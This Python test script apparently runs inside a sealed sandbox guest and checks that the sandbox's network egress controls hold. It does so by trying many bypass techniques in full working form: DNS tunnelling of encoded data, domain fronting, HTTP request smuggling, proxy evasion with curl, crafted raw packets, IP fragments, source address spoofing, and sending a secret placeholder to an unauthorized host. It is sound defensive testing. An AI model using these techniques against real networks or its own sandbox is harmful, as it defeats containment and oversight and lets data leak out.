# SPDX-License-Identifier: Apache-2.0
"""Egress bypass attempts, run by python3 inside a sealed sandbox guest (test_sandbox_network).

Each probe tries to get something out that the sandbox's policy forbids and reports a JSON line
{"name", "blocked", "outcome"}. A network error (OSError, timeouts, TLS errors) is an outcome;
any other exception is a bug in the probe and fails the run. Probes that send crafted packets
cannot see for themselves whether anything got out: the test judges them by a capture in the
"internet" namespace (no packet from the guest's addresses may arrive there).

usage: python3 guest_bypass.py PLACEHOLDER"""
import json
import os
import random
import socket
import ssl
import struct
import subprocess
import sys
import time

GOOD = "198.51.100.10"
OTHER = "198.51.100.11"
DNS = "198.51.100.53"
PRIV = "10.99.0.2"
GW = [ln.split()[1] for ln in open("/etc/resolv.conf") if ln.startswith("nameserver")][0]
PLACEHOLDER = sys.argv[1]
RESULTS = []


def probe(name, expect=""):
    """Runs the attempt at once. `expect`: a substring the outcome must contain (the outcome
    docs/threat-model.md states), else the attempt failed some other way than documented."""
    def deco(f):
        t0 = time.time()
        try:
            blocked, outcome = f()
        except OSError as e:  # includes timeouts and TLS errors
            blocked, outcome = True, f"{type(e).__name__}: {e}"
        outcome = str(outcome)[:160]
        RESULTS.append({"name": name, "blocked": bool(blocked), "outcome": outcome,
                        "as_documented": expect in outcome, "expect": expect,
                        "ms": int((time.time() - t0) * 1000)})
        return f
    return deco


def exchange(ip, port, data, timeout=3, tls=None, sni=None):
    """Connects, sends `data`, returns what comes back until close or timeout."""
    s = socket.create_connection((ip, port), timeout=timeout)
    if tls is not None:
        s = tls.wrap_socket(s, server_hostname=sni)
    try:
        s.sendall(data)
    except (BrokenPipeError, ConnectionResetError):
        pass  # refused mid-request: what was answered still counts
    out = b""
    try:
        while len(out) < 65536:
            d = s.recv(4096)
            if not d:
                break
            out += d
    except (socket.timeout, ssl.SSLError, ConnectionResetError):
        pass
    s.close()
    return out


def statuses(resp):
    return [int(line.split()[1]) for line in resp.split(b"\r\n")
            if line.startswith(b"HTTP/1.") and len(line.split()) > 1]


def http(host, path="/", extra=b""):
    return (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n".encode() + extra +
            b"\r\n")


def refused(resp):
    """An HTTP attempt failed: closed without an answer, or answered only with a 4xx/5xx (the
    outcome quotes the proxy's reason, the body's first line)."""
    codes = statuses(resp)
    body = resp.split(b"\r\n\r\n", 1)[1].split(b"\n", 1)[0] if b"\r\n\r\n" in resp else b""
    what = f"{codes} {body.decode(errors='replace')}" if codes else f"closed {resp[:40]!r}"
    return (not codes or all(c >= 400 for c in codes)), what


def dns_query(name, qtype=1):
    q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00" + struct.pack(">HH", qtype, 1)


def dns_answer(resp):
    """(rcode, answer count) of a DNS response, or None."""
    if len(resp) < 12:
        return None
    flags, _, an = struct.unpack(">HHH", resp[2:8])
    return flags & 0xF, an


def udp(ip, port, data, timeout=2, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(timeout)
    s.sendto(data, (ip, port))
    try:
        return s.recv(4096)
    finally:
        s.close()


def csum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def my_ip():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((GW, 9))
    ip = s.getsockname()[0]
    s.close()
    return ip


def ip_header(proto, dst, payload_len, ident=None, frag=0, mf=False):
    src = socket.inet_aton(my_ip())
    flags_frag = (0x2000 if mf else 0) | (frag // 8)
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident or random.randint(1, 65535),
                    flags_frag, 64, proto, 0, src, socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:]


def raw_send(packets):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for p, dst in packets:
        s.sendto(p, (dst, 0))
    s.close()
    return True


def icmp_echo(dst, icmp_type=8, timeout=2):
    """Sends an ICMP message of `icmp_type`; True when anything but our own echo comes back."""
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(0.5)
    ident = random.randint(1, 65535)
    body = struct.pack("!HH", ident, 1) + (b"\x00" * 12 if icmp_type == 13 else b"probe")
    msg = struct.pack("!BBH", icmp_type, 0, 0) + body
    msg = msg[:2] + struct.pack("!H", csum(msg)) + msg[4:]
    s.sendto(msg, (dst, 0))
    deadline = time.time() + timeout
    while time.time() < deadline:
        try:
            d, addr = s.recvfrom(1024)
        except socket.timeout:
            continue
        if addr[0] == dst and d[20] in (0, 14):
            return True
    return False


CTX = ssl.create_default_context()  # the system bundle, which holds the sandbox CA
INSECURE = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
INSECURE.check_hostname = False
INSECURE.verify_mode = ssl.CERT_NONE

# Controls: resolved through the sandbox resolver (so the proxy has pinned GOOD for these names),
# the same requests with the allowed Host succeed. Each refusal below is then down to what the
# probe changes, not to a missing pin. A failing control is a broken setup: no JSON, the test fails.
assert socket.gethostbyname("allowed.test") == GOOD
assert socket.gethostbyname("a.wild.test") == GOOD
assert statuses(exchange(GOOD, 80, http("allowed.test", "/control"))) == [200]
assert statuses(exchange(GOOD, 443, http("allowed.test", "/control"), tls=CTX,
                         sni="allowed.test")) == [200]


@probe("gateway TCP port 22", expect="closed b''")
def _():
    r = exchange(GW, 22, b"SSH-2.0-probe\r\n")
    return not r.startswith(b"SSH"), f"closed {r[:30]!r}"


@probe("gateway TCP port 53 (DNS over TCP to the resolver)", expect="closed b''")
def _():
    q = dns_query("allowed.test")
    r = exchange(GW, 53, struct.pack("!H", len(q)) + q)
    return dns_answer(r[2:]) is None, f"closed {r[:20]!r}"


@probe("gateway UDP port 123", expect="timed out")
def _():
    r = udp(GW, 123, b"\x1b" + b"\x00" * 47)
    return False, f"answered {r[:20]!r}"


@probe("UDP DNS to the outside server for a name not on the list", expect="(3, 0)")
def _():
    a = dns_answer(udp(DNS, 53, dns_query("other.test")))
    return a is None or a[0] != 0 or a[1] == 0, f"rcode/answers {a}"


@probe("DNS tunnelling: TXT query carrying data under a name not on the list",
       expect="(3, 0)")
def _():
    a = dns_answer(udp(GW, 53, dns_query("c2VjcmV0LWRhdGE.exfil.test", 16)))
    return a is None or a[0] != 0 or a[1] == 0, f"rcode/answers {a}"


@probe("DNS over TCP to the outside server", expect="closed b''")
def _():
    q = dns_query("other.test")
    r = exchange(DNS, 53, struct.pack("!H", len(q)) + q)
    return dns_answer(r[2:]) is None, f"closed {r[:20]!r}"


@probe("DNS rebinding: an allowed name that resolves to a private address",
       expect="[403] Blocked by policy: destination 10.99.0.2 is in a blocked range (private)")
def _():
    ip = socket.gethostbyname("private.test")
    r = exchange(ip, 443, http("private.test"), tls=CTX, sni="private.test")
    ok, what = refused(r)
    return ok, f"{ip}: {what}"


@probe("SNI of an allowed host, Host header of another (domain fronting)",
       expect="[421] Host other.test does not match")
def _():
    return refused(exchange(GOOD, 443, http("other.test"), tls=CTX, sni="allowed.test"))


@probe("SNI of a host not on the list, Host header of an allowed one",
       expect="[403] Blocked by policy: host not in allowlist")
def _():
    return refused(exchange(GOOD, 443, http("allowed.test"), tls=INSECURE, sni="other.test"))


@probe("TLS without SNI to an allowed host's IP", expect="[403]")
def _():
    return refused(exchange(GOOD, 443, http(GOOD), tls=INSECURE, sni=None))


@probe("plain HTTP with the Host of a host not on the list",
       expect="[403] Blocked by policy: host not in allowlist")
def _():
    return refused(exchange(GOOD, 80, http("other.test")))


@probe("absolute-form request target naming another host",
       expect="[400] request target names host other.test")
def _():
    r = exchange(GOOD, 80, b"GET http://other.test/abs HTTP/1.1\r\nHost: allowed.test\r\n"
                           b"Connection: close\r\n\r\n")
    return refused(r)


@probe("CONNECT to a host not on the list", expect="[403]")
def _():
    return refused(exchange(GOOD, 80, b"CONNECT other.test:443 HTTP/1.1\r\n"
                                      b"Host: other.test:443\r\n\r\n"))


@probe("pipelined second request on an allowed connection, to another host")
def _():
    r = exchange(GOOD, 80, b"GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\n" +
                 http("other.test", "/second"))
    codes = statuses(r)
    return codes[1:2] != [200] and len([c for c in codes if c == 200]) <= 1, codes


@probe("two Host headers, allowed one first",
       expect="[400] more than one Host header")
def _():
    return refused(exchange(GOOD, 80, http("allowed.test", extra=b"Host: other.test\r\n")))


@probe("userinfo in the Host header (allowed.test@other.test)", expect="[403]")
def _():
    return refused(exchange(GOOD, 80, http("allowed.test@other.test")))


@probe("Host header naming the loopback address", expect="[403]")
def _():
    return refused(exchange(GOOD, 80, http("127.0.0.1")))


@probe("Host header naming localhost with a port", expect="[403]")
def _():
    return refused(exchange(GOOD, 80, http("localhost:8080")))


@probe("request smuggling: Content-Length and Transfer-Encoding with a hidden request",
       expect="[400]")
def _():
    hidden = http("other.test", "/smuggled")
    body = b"0\r\n\r\n" + hidden
    r = exchange(GOOD, 80, b"POST /front HTTP/1.1\r\nHost: allowed.test\r\n"
                           b"Content-Length: " + str(len(body)).encode() +
                 b"\r\nTransfer-Encoding: chunked\r\n\r\n" + body)
    codes = statuses(r)
    return 200 not in codes[1:], codes  # judged by the server log as well


@probe("proxy variables unset, curl --noproxy to a host not on the list",
       expect="http 403")
def _():
    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
    p = subprocess.run(["curl", "-sS", "-m", "8", "--noproxy", "*", "-o", "/dev/null", "-w",
                        "%{http_code}", "--resolve", f"other.test:80:{GOOD}",
                        "http://other.test/noproxy"], capture_output=True, text=True, env=env)
    return p.stdout.strip() != "200", f"http {p.stdout.strip()} {p.stderr.strip()[:60]}"


@probe("secret placeholder over plain HTTP to an allowed host that is not the secret's",
       expect="[403] Blocked by policy: secret placeholder sent to unauthorized host")
def _():
    return refused(exchange(GOOD, 80, http("a.wild.test", "/plainleak",
                                           f"X-Key: {PLACEHOLDER}\r\n".encode())))


@probe("secret placeholder in the URL path of the secret's host (never substituted)",
       expect="[200]")
def _():
    r = exchange(GOOD, 443, http("allowed.test", f"/pathleak/{PLACEHOLDER}"), tls=CTX,
                 sni="allowed.test")
    return True, f"{statuses(r)} (judged by the server log)"


@probe("raw socket: crafted TCP SYN to an outside host")
def _():
    sport, dport = random.randint(20000, 60000), 80
    src, dst = socket.inet_aton(my_ip()), socket.inet_aton(OTHER)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    return raw_send([(ip_header(6, OTHER, len(tcp)) + tcp, OTHER)]), "sent (judged by the capture)"


@probe("raw socket: crafted UDP to an outside host")
def _():
    u = struct.pack("!HHHH", 40000, 9999, 8 + 5, 0) + b"probe"
    return raw_send([(ip_header(17, OTHER, len(u)) + u, OTHER)]), "sent (judged by the capture)"


@probe("IP fragments of a UDP datagram to an outside host")
def _():
    payload = struct.pack("!HHHH", 40001, 9999, 8 + 64, 0) + b"F" * 64
    ident = random.randint(1, 65535)
    a = ip_header(17, OTHER, 32, ident=ident, frag=0, mf=True) + payload[:32]
    b = ip_header(17, OTHER, len(payload) - 32, ident=ident, frag=32) + payload[32:]
    return raw_send([(a, OTHER), (b, OTHER)]), "sent (judged by the capture)"


@probe("another IP protocol: GRE to an outside host")
def _():
    g = struct.pack("!HH", 0, 0x0800) + b"probe"
    return raw_send([(ip_header(47, OTHER, len(g)) + g, OTHER)]), "sent (judged by the capture)"


@probe("another IP protocol: SCTP INIT to an outside host")
def _():
    s = struct.pack("!HHII", 40002, 80, 0, 0) + struct.pack("!BBHIIHHI", 1, 0, 20, 1, 65535, 1,
                                                            1, 1)
    return raw_send([(ip_header(132, OTHER, len(s)) + s, OTHER)]), "sent (judged by the capture)"


@probe("ICMP echo to the gateway", expect="no reply")
def _():
    answered = icmp_echo(GW)
    return not answered, "answered" if answered else "no reply"


@probe("ICMP timestamp request to an outside host", expect="no reply")
def _():
    answered = icmp_echo(OTHER, icmp_type=13)
    return not answered, "answered" if answered else "no reply"


@probe("IPv6 UDP to a global address", expect="Network is unreachable")
def _():
    r = udp("2001:db8::53", 53, dns_query("allowed.test"), family=socket.AF_INET6)
    return False, f"answered {r[:20]!r}"


@probe("IPv6 link-local: all-nodes multicast echo on eth0", expect="no foreign reply")
def _():
    mine = set()
    for line in open("/proc/net/if_inet6"):
        h = line.split()[0]
        mine.add(socket.inet_ntop(socket.AF_INET6, bytes.fromhex(h)))
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    s.settimeout(0.5)
    s.sendto(struct.pack("!BBHHH", 128, 0, 0, 7, 1) + b"probe",
             ("ff02::1", 0, 0, socket.if_nametoindex("eth0")))
    others = set()
    deadline = time.time() + 2
    while time.time() < deadline:
        try:
            d, addr = s.recvfrom(1024)
        except socket.timeout:
            continue
        if d[0] == 129 and addr[0].split("%")[0] not in mine:
            others.add(addr[0])
    return not others, f"replies from {sorted(others)}" if others else "no foreign reply"


@probe("source address spoofing: a crafted SYN from a private address")
def _():
    src, dst = socket.inet_aton("10.99.0.5"), socket.inet_aton(PRIV)
    tcp = struct.pack("!HHIIBBHHH", 40003, 80, 1, 0, 5 << 4, 0x02, 64240, 0, 0)
    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    h = ip_header(6, PRIV, len(tcp))
    h = h[:10] + b"\x00\x00" + src + h[16:]
    h = h[:10] + struct.pack("!H", csum(h)) + h[12:]
    return raw_send([(h + tcp, PRIV)]), "sent (judged by the capture)"


@probe("malformed DNS packets to the resolver (then a valid query still works)",
       expect="(0, 1)")
def _():
    for junk in (b"\xff" * 12, os.urandom(300), dns_query("a" * 63 + "." + "b" * 63)[:40],
                 b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01\x00\x01"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(junk, (GW, 53))
        s.close()
    a = dns_answer(udp(GW, 53, dns_query("allowed.test")))
    return a is not None and a[0] == 0 and a[1] > 0, f"resolver afterwards: {a}"


@probe("oversized HTTP request head (then the proxy still serves)",
       expect="[431] then [200]")
def _():
    r = exchange(GOOD, 80, http("allowed.test", extra=b"X-Big: " + b"A" * 200000 + b"\r\n"))
    after = statuses(exchange(GOOD, 80, http("allowed.test", "/after-big")))
    return 200 not in statuses(r) and after == [200], f"{statuses(r)} then {after}"


for r in RESULTS:
    print(json.dumps(r), flush=True)
